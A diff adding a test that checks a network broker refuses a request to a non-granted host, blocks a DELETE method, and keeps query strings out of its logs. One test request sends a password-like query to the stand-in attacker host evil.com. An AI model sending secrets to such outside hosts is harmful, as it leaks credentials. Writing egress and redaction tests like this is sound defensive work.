@@ -165,3 +165,22 @@ test.each([
   expect(sent.code).toBe(code);
   expect(lab.lookUps).toEqual([]);
 });
+
+test("a query is in no event, of an allowed request as of a refused one", async () => {
+  await using server = await startHttpServer((_request, response) => response.end("fine"));
+  await using lab = createLab({ policy: { network }, dns, port: server.port });
+  const port = lab.broker.http(lab.grant());
+  const sent = [
+    await send(port, "http://a.trusted.com/path?passw0rd"),
+    await send(port, "http://evil.com/path?passw0rd"),
+    await send(port, "http://a.trusted.com/path?passw0rd", { method: "DELETE" }),
+  ];
+  expect(sent.map(({ code }) => code)).toEqual([
+    "allowed",
+    "BROKER_HOST_NOT_GRANTED",
+    "BROKER_METHOD",
+  ]);
+  const log = JSON.stringify(lab.log.events.map(({ event }) => event));
+  expect(log).toContain("/path");
+  expect(log).not.toContain("passw0rd");
+});
